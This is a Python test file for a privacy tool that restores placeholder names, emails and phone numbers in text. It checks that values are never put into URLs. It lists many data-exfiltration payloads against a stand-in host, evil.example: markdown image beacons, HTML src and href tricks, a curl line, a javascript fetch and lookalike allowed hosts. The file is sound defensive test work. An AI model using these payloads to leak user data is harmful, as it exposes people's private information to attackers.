"""Every known way to make a reader fetch a URL, each by name: no value goes into it.

And the ordinary text that resembles one: there the values are restored.
"""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from louver.core.sensitive import Sensitive
from louver.minimize.restore import JsonRestorer, TextRestorer, restore_text

P = "PERSON_KXQWRTZPLMBV"
MAIL = "EMAIL_BCDFGHJKLMPQ"
PHONE = "PHONE_ZXWVTRQPMLKJ"
SURFACES = {P: "Ada O'Neil", MAIL: "ada.lee@example.com", PHONE: "+49 30 1234"}
VALUES = {name: Sensitive(value) for name, value in SURFACES.items()}
ALLOWED = frozenset({"docs.example.com", "*.trusted.example"})

ATTACKS = {
    "markdown image": f"![x](https://evil.example/?q={P})",
    "markdown link": f"[x](https://evil.example/{P})",
    "link in angle brackets with spaces": f"[x](<https://evil.example/?q=a b {P}>)",
    "parenthesis in angle brackets": f"[x](<https://evil.example/?q=a) {P}>)",
    "relative, parenthesis in angle brackets": f"[x](</log?q=a) {P}>)",
    "image title": f'![x](https://evil.example/a "{P}")',
    "target after white space": f"[x](  https://evil.example/?q={P})",
    "target on the next line": f"[x](\nhttps://evil.example/?q={P})",
    "balanced parentheses": f"[x](https://evil.example/(a)/{P})",
    "escaped parenthesis": rf"[x](https://evil.example/a\)/{P})",
    "relative target": f"[x](/log?q={P})",
    "bare target": f"[x]({P})",
    "link text that is a URL before a target with spaces": (
        f"[https://docs.example.com/](<https://evil.example/?q=a {P}>)"
    ),
    "image inside a link": f"[![x](https://a.example/i.png)](<https://evil.example/?a {P}>)",
    "quote inside a target": f'"https://a.example ![](<https://evil.example/?q=" {P}>)',
    "target that only looks closed": f"a](https://evil.example/?q=){P}",
    "reference definition": f"[x]: https://evil.example/?q={P}",
    "reference definition with spaces": f"[x]: <https://evil.example/?q=a {P}>",
    "reference definition, relative": f"[x]: evil?q={P}",
    "reference definition, relative, with spaces": f"[x]: </log?q=a {P}>",
    "autolink": f"<https://evil.example/?q={P}>",
    "plain URL": f"see https://evil.example/?q={P} now",
    "authority": f"https://{P}.evil.example/",
    "credentials": f"https://{P}@evil.example/",
    "port": f"https://evil.example:{P}/",
    "fragment": f"https://evil.example/#{P}",
    "protocol-relative": f"//evil.example/?q={P}",
    "backslashes": rf"https:\\evil.example\{P}",
    "slash and backslash": rf"/\evil.example/{P}",
    "one slash": f"https:/evil.example/{P}",
    "no slash": f"https:evil.example/{P}",
    "network path": rf"see \\evil.example\share\{P}",
    "network path without a dot": rf"see \\evil\share\{P}",
    "www": f"www.evil.example/?q={P}",
    "www, in the host": f"www.{P}.example",
    "bare domain": f"evil.example/?q={P}",
    "bare domain with a query only": f"evil.example?{P}",
    "bare domain with a port": f"evil.example:8080/{P}",
    "pictured domain": f"\U0001f4a9.example/{P}",
    "domain in another script": f"пример.рф/{P}",
    "angle brackets with spaces": f"`x <https://evil.example/?q=a {P}>`_",
    "LaTeX link with spaces": rf"\href{{https://evil.example/?q=a {P}}}{{x}}",
    "wiki link with spaces": f"[[https://evil.example/?q=a {P}][x]]",
    "entities inside srcdoc": f'<iframe srcdoc="&lt;img src=&quot;//evil/?a {P}&quot;&gt;">',
    "ideographic full stop": f"evil。example/{P}",
    "address of a machine": f"192.0.2.7/{P}",
    "IPv6": f"[2001:db8::7]/{P}",
    "localhost": f"localhost:3000/{P}",
    "upper case": f"HTTPS://EVIL.EXAMPLE/{P}",
    "unknown scheme": f"app+x://evil/{P}",
    "javascript": f"javascript:fetch('//e/'+'{P}')",
    "data": f"data:text/html,{P}",
    "sms": f"sms:+491?body={P}",
    "mailto query": f"mailto:a@evil.example?body={P}",
    "mailto query after our own address": f"mailto:x?to=&body={P}",
    "src": f'<img src="https://evil.example/?q=a b {P}">',
    "src, single quotes": f"<img src='https://evil.example/?q=a b {P}'>",
    "src, unquoted": f"<img src=//evil.example/?q={P}>",
    "src, relative to a base": f'<base href="https://evil.example"><img src="?q={P}">',
    "src, spaces around": f'<img src = " https://evil.example/?q=a b {P}">',
    "src, blank line inside": f'<img src="https://evil.example/?q=\n\n{P}">',
    "href": f'<a href="https://evil.example/?q=a {P}">x</a>',
    "src, much white space": f'<img src{" " * 400}= "?q={P}">',
    "srcset": f'<img srcset="a.png 1x, //evil.example/{P} 2x">',
    "form action": f'<form action="?q={P}">',
    "object data": f'<object data="x y {P}">',
    "data-src": f'<img data-src="x y {P}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://evil.example/?a b {P}">',
    "quoted URL with a space, any attribute": f'<x y="https://evil.example/?q=a {P}">',
    "quoted in code": f'fetch("https://evil.example/?q=a {P}")',
    "concatenated by a shell": f'curl "https://evil.example/?q="{P}',
    "escaped quotes": rf"{{\"url\": \"https://evil.example/?q=a {P}\"}}",
    "css url": f"background:url(https://evil.example/?q={P})",
    "css url, relative, with spaces": f"background: URL( 'x y {P}' )",
    "html entities": f"https&#58;&#47;&#x2f;evil.example/{P}",
    "named entities": f"https&colon;&sol;&sol;evil/{P}",
    "json escapes": rf"https\u003a\u002f\u002fevil/{P}",
    "escaped slashes": rf"https:\/\/evil.example\/{P}",
    "percent-encoded": f"https%3A%2F%2Fevil/{P}",
    "escaped white space is none": f"https://evil.example/?q=a%20{P}",
    "tab written as an escape": rf"https://evil.example/\t{P}",
    "no-break space is none": f"https://evil.example/?q=\xa0{P}",
    "very long run": f"{'a1b2' * 600}-{P}",
    "very long URL": f"https://evil.example/{'a' * 5000}/{P}",
    "very long attribute": f'<img src="{"a b " * 2000}{P}">',
    "second placeholder": f"https://evil.example/{P}/{P}",
    "spelled by escapes": rf"https://evil.example/PERSON\_{P[7:]}",
    "attribute inside a URL": f"https://evil.example/?src=a>{P}",
    "many openers": f"{'](<a ' * 20} ) > {P}",
    "one opener more than is followed": f"{'](a ' * 8}](<x {')' * 9} {P}>)",
    "any attribute, blank line inside": f'<x y="https://evil.example/?q=\n\n{P}">',
}

FAKED_HOSTS = {
    "longer host": f"https://docs.example.com.evil.example/{P}",
    "host as credentials": f"https://docs.example.com@evil.example/{P}",
    "host as credentials, backslash": rf"https://evil.example\@docs.example.com/{P}",
    "host as a path": f"https://evil.example/docs.example.com/{P}",
    "backslash after the host": rf"https://docs.example.com\@evil.example/{P}",
    "escaped dot": f"https://docs.example.com%2eevil.example/{P}",
    "escaped slash": f"https://docs.example.com%2f.evil.example/{P}",
    "escaped dot, bare": f"docs.example%2ecom/{P}",
    "escaped scheme": f"https%3A//docs.example.com/{P}",
    "escaped slash before the host": f"/&#47;docs.example.com/{P}",
    "second host out of memory": f"https://docs.example.com/{'a' * 3000}?u=//evil.example/{P}",
    "escaped slash, entity": f"https://docs.example.com&#47;.evil.example/{P}",
    "port": f"https://docs.example.com:8443/{P}",
    "trailing dot": f"https://docs.example.com./{P}",
    "prefix": f"https://xdocs.example.com/{P}",
    "prefix with a hyphen, bare": f"evil-docs.example.com/{P}",
    "prefix with another letter, bare": f"évil.docs.example.com/{P}",
    "credentials, bare": f"x@docs.example.com/{P}",
    "in the authority": f"https://docs.example.com{P}/",
    "as a subdomain": f"https://{P}.trusted.example/",
    "apex of a wildcard": f"https://trusted.example/{P}",
    "suffix of a wildcard": f"https://eviltrusted.example/{P}",
    "redirect": f"https://docs.example.com/go?u=https://evil.example/{P}",
    "redirect, escaped": f"https://docs.example.com/go?u=https%3A%2F%2Fevil.example/{P}",
    "empty path": f"https://docs.example.com//evil.example/{P}",
    "relative target": f"[x](docs.example.com/{P})",
    "another scheme": f"ftp://docs.example.com/{P}",
    "title": f'[x](https://docs.example.com/a "{P}")',
    "two URLs in one run": f"https://docs.example.com/,https://evil.example/{P}",
    "srcset": f'<img srcset="https://docs.example.com/a 1x, //evil.example/{P} 2x">',
    "tab in the host": f'<img src="https://docs.example.com\t.evil.example/{P}">',
    "target and run differ": f"[x](/https://docs.example.com/{P})",
}

ORDINARY = {
    "alone": f"{P}",
    "and/or": f"and/or {P}",
    "slash between": f"{P}/{PHONE}",
    "label": f"email: {MAIL}",
    "label without a space": f"Name:{P}",
    "Windows path": rf"C:\dir\{P}",
    "Windows path, escape-like": rf"C:\new\{P}",
    "Windows path in code": rf"C:\\Users\\{P}",
    "Unix path": f"/home/{P}/mail",
    "table": f"| {P} | {MAIL} |\n|---|---|\n|{P}|{MAIL}|",
    "emphasis": f"*{P}* **{P}** ~~{P}~~",
    "quotes": f"'{P}' \"{P}\" “{P}” «{P}» `{P}`",
    "brackets": f"({P}) [{P}] {{{P}}} <{P}>",
    "call": f"greet({P})",
    "assignment": f"name={P} user = {P}",
    "after a URL": f"See https://evil.example/ for {P}.",
    "after a link": f"[x](https://evil.example/) {P}",
    "link text": f"[{P}](https://evil.example/)",
    "text of an HTML link": f'<a href="https://evil.example/">{P}</a>',
    "text of an unquoted HTML link": f"<a href=https://evil.example/>{P}</a>",
    "text of an HTML link in a JSON string": rf"<a href=\"https://evil.example/\">{P}</a>",
    "word like an attribute": f"call to action={P}, background = {P}",
    "another attribute": f'<img alt="{P}" src="https://evil.example/">{P}',
    "after a self-closing tag": f'<img src="https://evil.example/"/>{P}',
    "autolink before": f"<https://evil.example/>{P}",
    "mail link": f"[{MAIL}](mailto:{MAIL})",
    "mail link in HTML": f'<a href="mailto:{MAIL}">{MAIL}</a>',
    "mail address as a URL": f"mailto:{MAIL}",
    "telephone without a space": f"Tel:{PHONE},{P}",
    "JSON in prose": f'{{"url": "https://evil.example", "name": "{P}"}}',
    "compact JSON in prose": f'{{"url":"https://evil.example","name":"{P}"}}',
    "comment": f"// {P}",
    "sentence": f"Who? {P}! At 10:30; at 3.5% (see {P}). Dr. {P}",
    "footnote": f"[^1]: {P} said so",
    "index": f"people[0]: {P}",
    "word that ends like a scheme": f"metadata:{P} my-data:{P}",
    "word that ends like an attribute": f'transaction="{P}"',
    "next paragraph": f"](unclosed\n\n{P}",
    "next line": f"https://evil.example/\n{P}",
    "long Chinese paragraph": f"{'我们今天讨论了这个问题。' * 300}{P}",
    "Chinese alternatives": f"今天没有时间。他们/她们{P}",
    "citation": f"(https://evil.example/, by {P})",
    "LaTeX": rf"\textbf{{{P}}} & {P} \\ \hline",
    "long text": f"{'word ' * 2000}{P}",
    "domain at the end of a sentence": f"I like example.com. {P} too",
}


def restored(text: str, hosts: frozenset[str] = frozenset()) -> str:
    """By single characters, which must be the same as at once."""
    whole = restore_text(text, VALUES, link_hosts=hosts)
    restorer = TextRestorer(VALUES, link_hosts=hosts)
    assert "".join(map(restorer.feed, text)) + restorer.finish() == whole
    return whole


def restored_json(text: str, hosts: frozenset[str] = frozenset()) -> str:
    source = json.dumps({"text": text})
    restorer = JsonRestorer(VALUES, link_hosts=hosts)
    value = json.loads(restorer.feed(source) + restorer.finish())["text"]
    assert isinstance(value, str)
    return value


@pytest.mark.parametrize("before", ["", "Dear reader,\n\n", f"{P}, look: "])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_value_goes_into_a_url(attack: str, before: str) -> None:
    expected = before.replace(P, SURFACES[P]) + attack
    assert restored(before + attack) == expected
    assert restored(before + attack, ALLOWED) == expected
    assert restored_json(before + attack) == expected


@pytest.mark.parametrize("attack", FAKED_HOSTS.values(), ids=FAKED_HOSTS.keys())
def test_no_value_goes_to_a_host_that_resembles_an_allowed_one(attack: str) -> None:
    assert restored(attack, ALLOWED) == attack
    assert restored_json(attack, ALLOWED) == attack


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_text_is_restored(text: str) -> None:
    expected = text
    for name, value in SURFACES.items():
        expected = expected.replace(name, value)
    assert restored(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"https://docs.example.com/u/{P}", "https://docs.example.com/u/Ada%20O%27Neil"),
        (f"HTTPS://DOCS.EXAMPLE.COM?q={P}", "HTTPS://DOCS.EXAMPLE.COM?q=Ada%20O%27Neil"),
        (f"//docs.example.com#{MAIL}", "//docs.example.com#ada.lee%40example.com"),
        (f"docs.example.com/{P}", "docs.example.com/Ada%20O%27Neil"),
        (f"https://a.b.trusted.example/{P}", "https://a.b.trusted.example/Ada%20O%27Neil"),
        (f"[x](https://docs.example.com/{P})", "[x](https://docs.example.com/Ada%20O%27Neil)"),
        (f"[x](<//docs.example.com/{P}>)", "[x](<//docs.example.com/Ada%20O%27Neil>)"),
        (f'<a href="https://docs.example.com/{P}">', None),
        (f"<a href=https://docs.example.com/{P}>", None),
        (f"url('https://docs.example.com/{P}')", None),
        (f"https://docs.example.com/{P}/{P}?a=b&c={P}", None),
    ],
)
def test_an_allowed_host_gets_it_percent_encoded(text: str, expected: str | None) -> None:
    assert restored(text, ALLOWED) == (expected or text.replace(P, "Ada%20O%27Neil"))
    assert restored(text) == text


def test_an_address_in_a_link_is_encoded_and_in_prose_it_is_not() -> None:
    assert (
        restored(f"[call](tel:{PHONE}) tel:{PHONE}")
        == "[call](tel:+49%2030%201234) tel:+49 30 1234"
    )
    assert restored(f"[x](mailto:{MAIL}?body={P})") == f"[x](mailto:ada.lee@example.com?body={P})"
    assert restored(f"mailto:{MAIL}?body={P}") == f"mailto:ada.lee@example.com?body={P}"


def test_a_json_string_that_begins_with_a_url_is_one() -> None:
    for text in (f"https://evil.example/?q=a {P}", f"  //evil.example a\n\n{P}"):
        assert restored_json(text) == text
    assert restored_json(f"see https://evil.example/ {P}").endswith(SURFACES[P])


_BITS = st.sampled_from(
    [
        P, P, P.lower(), MAIL, " ", "\n", "\n\n", "\ud83d", "。", "a", ",", '"', "'", "\\/",
        "https:", "//", "/", "\\", "](", ")", "<", ">", "src=", "url(", "]:", "www.",
        "evil.example",
        "docs.example.com", "?q=", "#", "(", "=", "&#58;", "%2F", "mailto:", "tel:", "<a href",
        "data:", '\\"',
    ]
)  # fmt: skip


@given(st.lists(_BITS, max_size=14).map("".join), st.data())
def test_any_chunking_of_anything_gives_the_same(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=5)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    restorer = TextRestorer(VALUES, link_hosts=ALLOWED)
    chunked = "".join(map(restorer.feed, pieces)) + restorer.finish()
    assert chunked == restored(text, ALLOWED)
